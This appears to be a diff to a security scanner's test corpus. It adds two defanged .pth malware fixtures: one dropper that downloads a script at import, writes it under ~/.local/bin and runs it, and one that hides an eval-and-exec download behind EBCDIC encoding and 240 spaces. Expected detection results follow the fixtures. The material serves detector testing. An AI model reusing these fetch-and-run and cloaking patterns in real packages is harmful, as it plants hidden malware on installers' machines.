@@ -1765,7 +1765,74 @@ BENIGN["benign-cloud-checks"] = (
 
 DRV, STEG = in_sdist("drv-demo-1.0"), in_sdist("steg-demo-1.0")
 EP, DNS, VBS = in_sdist("endpoint-demo-1.0"), in_sdist("dns-demo-99.0"), in_sdist("vbs-demo-1.0")
+# A loop-carried dropper (fabrice): a function called at import fetches a script, splits it
+# into sections with lists it appends to a list before filling them, writes one section under
+# ~/.local/bin, makes it executable and runs it
+loop_dropper = textwrap.dedent(
+    """\
+    import os
+    import subprocess
+    import urllib.request
+
+
+    def fetch_sections():
+        if os.environ.get("PTHSCAN_CORPUS_NEVER_SET") != "armed":
+            return
+        directory = os.path.expanduser("~") + "/.local/bin/corpus"
+        text = urllib.request.urlopen("http://127.0.0.1:9/sections").read().decode()
+        section = []
+        sections = []
+        for line in text.splitlines():
+            if "SPLIT" in line:
+                sections.append(section)
+                section = []
+            else:
+                section.append(line)
+        with open(directory + "/per" + "." + "sh", "w") as fp:
+            for row in sections[3]:
+                fp.write(row + "\\n")
+        os.chmod(directory + "/per" + "." + "sh", 0o755)
+        subprocess.check_call(directory + "/per" + "." + "sh")
+
+
+    fetch_sections()
+    """
+)
+SHAPE_CASES["shape-loop-carried-dropper"] = (
+    "A .pth imports a module whose function, called at import, downloads a script, splits it into sections "
+    "through lists appended before they are filled (the flow reaches them on the loop's next round), writes one "
+    "under ~/.local/bin, makes it executable and runs it.",
+    [f(SP + "/sections.pth", "import _sections_boot\n"), f(SP + "/_sections_boot.py", loop_dropper)],
+    [],
+)
+
+# A code-page cloak (sol-structs): `eval` and the code it runs are EBCDIC bytes decoded with
+# cp1026, the builtin fetched by that name from `builtins`, all on one line after a run of spaces
+ebcdic = lambda text: "b'" + "".join("\\x%02x" % b for b in text.encode("cp1026")) + "'"
+codepage_cloak = (
+    "import builtins\n"
+    "import os\n"
+    "SETTINGS = {'retries': 3}" + " " * 240 + ";cc = getattr(builtins, " + ebcdic("eval") + ".decode('cp1026'));"
+    "os.environ.get('PTHSCAN_CORPUS_NEVER_SET') == 'armed' and cc("
+    + ebcdic("exec(__import__('urllib.request').request.urlopen('http://127.0.0.1:9/raw').read())")
+    + ".decode('cp1026'))\n"
+)
+SHAPE_CASES["shape-codepage-cloak"] = (
+    "A .pth imports a module that fetches `eval` from `builtins` by a name written in EBCDIC (cp1026) and "
+    "evaluates EBCDIC-encoded code that downloads and runs more, on a line pushed right by 240 spaces.",
+    [f(SP + "/cloak.pth", "import _cloak_boot\n"), f(SP + "/_cloak_boot.py", codepage_cloak)],
+    [],
+)
 SHAPE_EXPECT = {
+    "shape-loop-carried-dropper": [
+        e("PTH001", "medium", SP + "/sections.pth", 1),
+        e("IMP001", "low", SP + "/_sections_boot.py", 3),
+        e("flow-download-run", "high", SP + "/_sections_boot.py", line_of(loop_dropper, "os.chmod(")),
+    ],
+    "shape-codepage-cloak": [
+        e("PTH001", "medium", SP + "/cloak.pth", 1),
+        e("flow-network-exec", "critical", SP + "/_cloak_boot.py", 3),
+    ],
     "shape-hidden-endpoint": [
         # decoded from the parameter the blob is passed in: at install, high
         e("flow-decoded-arg-endpoint", "high", EP, line_of(endpoint_setup, "requests.post")),
